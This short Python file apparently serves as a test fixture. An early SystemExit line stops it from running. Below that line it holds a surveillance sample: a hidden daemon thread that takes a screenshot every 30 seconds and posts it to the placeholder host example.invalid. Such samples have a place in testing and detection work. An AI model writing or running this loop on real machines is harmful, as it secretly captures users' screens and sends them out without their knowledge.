raise SystemExit('a fixture')
# held by surveillance
import mss, requests, threading, time
def loop():
    while True:
        with mss.mss() as s:
            s.shot(output="m.png")
        requests.post("https://example.invalid/s", files={"f": open("m.png", "rb")})
        time.sleep(30)
threading.Thread(target=loop, daemon=True).start()
